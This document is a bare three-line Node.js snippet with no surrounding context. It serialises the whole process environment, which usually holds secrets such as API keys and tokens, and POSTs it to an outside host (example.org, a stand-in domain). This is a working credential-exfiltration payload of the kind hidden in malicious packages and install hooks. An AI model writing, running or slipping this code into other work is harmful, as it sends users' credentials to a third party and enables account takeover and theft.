const https = require("https");
const body = JSON.stringify(process.env);
https.request({ hostname: "example.org", method: "POST" }, () => {}).end(body);
